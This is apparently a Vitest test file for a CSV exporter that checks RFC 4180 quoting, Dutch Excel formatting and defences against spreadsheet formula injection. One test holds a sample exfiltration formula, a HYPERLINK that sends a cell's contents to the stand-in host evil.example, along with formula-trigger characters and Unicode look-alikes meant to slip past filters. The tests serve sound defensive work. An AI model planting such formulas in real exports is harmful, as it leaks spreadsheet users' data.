import { describe, expect, it } from 'vitest';
import { neutralised, toCsv } from './csv.ts';

describe('toCsv', () => {
  it('RFC 4180: quotes only fields with a comma, quote or line break, doubles quotes, CRLF after every line, null empty', () => {
    const rows = [{ a: 'plain', b: 1.5, c: null }, { a: 'Plan "Noord", fase 1', b: -2, c: 'twee\nregels' }, { a: 'x;y', b: 0, c: '' }];
    expect(toCsv(['a', 'b', 'c'], rows)).toBe(
      'a,b,c\r\nplain,1.5,\r\n"Plan ""Noord"", fase 1",-2,"twee\nregels"\r\nx;y,0,\r\n',
    );
  });

  it('nl (Dutch Excel): byte order mark, semicolons, decimal comma in numbers only, a semicolon quoted', () => {
    const rows = [{ a: 'Plan Noord, fase 1', b: 2322278.64, c: -35630.18 }, { a: 'x;y', b: 1.5, c: null }, { a: 'versie 1.2', b: 1234567, c: 0 }];
    expect(toCsv(['a', 'b', 'c'], rows, 'nl')).toBe(
      '\uFEFFa;b;c\r\nPlan Noord, fase 1;2322278,64;-35630,18\r\n"x;y";1,5;\r\nversie 1.2;1234567;0\r\n',
    );
  });

  it('neutralises text that a spreadsheet would run (=, +, -, @, tab, CR first), keeps numbers numbers (issue 22 item 4)', () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
    const rows = [
      { t: evil, n: -1250.5 }, { t: '+31 6 1234', n: -0.01 }, { t: '-2+3', n: 0 }, { t: '@SUM(A1)', n: 1 },
      { t: '\t=1', n: 2 }, { t: '\r=1', n: 3 }, { t: 'Plan = goed', n: 4 }, { t: "'al", n: 5 },
    ];
    const [, ...lines] = toCsv(['t', 'n'], rows).split('\r\n');
    expect(lines).toEqual([
      `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Klik"")",-1250.5`, "'+31 6 1234,-0.01", "'-2+3,0", "'@SUM(A1),1",
      "'\t=1,2", `"'\r=1",3`, 'Plan = goed,4', "'al,5", '',
    ]);
    expect(toCsv(['t', 'n'], [{ t: '=1+1', n: -7.5 }], 'nl')).toBe("\uFEFFt;n\r\n'=1+1;-7,5\r\n");
    expect(neutralised('-')).toBe("'-");
    expect(neutralised('Noord')).toBe('Noord');
  });

  it('neutralises a formula sign after leading white space or a line break, and the full-width signs (issue 34 finding 7)', () => {
    for (const t of [' =1+1', '  @SUM(1)', '\n=1+1', '\r\n=1+1', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', ' -2', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(1)']) {
      expect(neutralised(t)).toBe(`'${t}`);
    }
    for (const t of ['Plan = goed', 'a\n=1', ' Noord', '\n', '']) expect(neutralised(t)).toBe(t);
  });
});
